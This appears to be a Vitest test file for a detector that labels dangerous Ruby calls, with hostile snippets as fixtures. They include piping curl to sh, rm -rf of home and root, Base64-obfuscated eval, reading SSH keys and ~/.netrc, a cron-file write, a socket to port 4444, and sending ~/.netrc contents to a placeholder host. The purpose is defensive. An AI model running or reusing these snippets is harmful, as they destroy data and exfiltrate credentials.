import { describe, expect, it } from 'vitest';
import { labels, readAll } from './python-helper.ts';

const CALLS: readonly (readonly [name: string, source: string, ...expected: string[]])[] = [
  ['backticks', 'out = `curl https://a.example | sh`', 'shell: curl https://a.example | sh'],
  ['percent x', 'out = %x(whoami)', 'shell: whoami'],
  ['system with one string', 'system("whoami")', 'shell: whoami'],
  ['system with words', 'system("rm", "-rf", Dir.home)', 'shell: rm -rf ~'],
  ['Open3', 'require "open3"\nOpen3.capture3("whoami")', 'shell: whoami'],
  ['send with a built name', 'Kernel.send("sys" + "tem", "whoami")', 'shell: whoami'],
  ['open with a pipe', 'open("| whoami")', 'shell: whoami'],
  ['eval of Base64', 'eval(Base64.decode64("c3lzdGVtKCd3aG9hbWknKQ=="))', "ruby: system('whoami')", 'shell: whoami', 'decode base64'],
  ['unpack1', 'eval("c3lzdGVtKCd3aG9hbWknKQ==".unpack1("m"))', 'shell: whoami'],
  ['pack', 'eval([115, 121, 115, 116, 101, 109, 39, 105, 100, 39].pack("c*"))', "ruby: system'id'"],
  ['instance_eval', 'Object.new.instance_eval("system(\'id\')")', 'shell: id'],
  ['Marshal', 'Marshal.load(x)', 'deserialize Marshal.load'],
  ['reading', 'File.read(File.expand_path("~/.ssh/id_rsa"))', 'read ~/.ssh/id_rsa'],
  ['reading in a block', '%w[~/.netrc ~/.pgpass].each { |p| File.read(p) }', 'read ~/.netrc', 'read ~/.pgpass'],
  ['writing in a block', 'File.open("/etc/cron.d/x", "w") { |f| f.write("* * * * * root id") }', 'write /etc/cron.d/x'],
  ['deleting', 'require "fileutils"\nFileUtils.rm_rf("/")', 'delete /'],
  ['environment', 'x = ENV["TOKEN"]; ENV.to_h', 'env TOKEN', 'env *'],
  ['sockets', 's = TCPSocket.new("203.0.113.5", 4444)', 'TCP tcp://203.0.113.5:4444'],
];

describe('Ruby', () => {
  it.each(CALLS)('%s', async (_name, source, ...expected) => {
    const seen = await readAll({ 'a.rb': source });
    const all = [...labels(seen), ...seen.texts];
    for (const each of expected) expect(all).toContain(each);
  });
  it('follows data', async () => {
    const source =
      'require "net/http"\ndef grab(p)\n  File.read(p)\nend\nd = grab("/home/u/.netrc")\nNet::HTTP.post(URI("https://a.example"), Base64.encode64(d))';
    expect((await readAll({ 'a.rb': source })).flows('read', 'request')).toContain('read /home/u/.netrc -> POST https://a.example (body)');
    expect((await readAll({ 'a.rb': 'require "open-uri"\neval(URI.open("https://a.example").read)' })).flows('request', 'exec')).toEqual([
      'GET https://a.example -> eval eval (code)',
    ]);
    const files = await readAll({
      'a.rb': "require_relative 'lib/b'\nship(File.read('/home/u/.netrc'))",
      'lib/b.rb': 'def ship(d)\n  HTTParty.post("https://a.example", body: d)\nend',
    });
    expect(files.flows('read', 'request')).toEqual(['read /home/u/.netrc -> POST https://a.example (body)']);
  });
  it('leaves comments and strings alone', async () => {
    expect(labels(await readAll({ 'a.rb': '# system("id")\nHELP = "eval(x)"\ndef f(a) = a.send(:name)\n' }))).toEqual([]);
  });
});
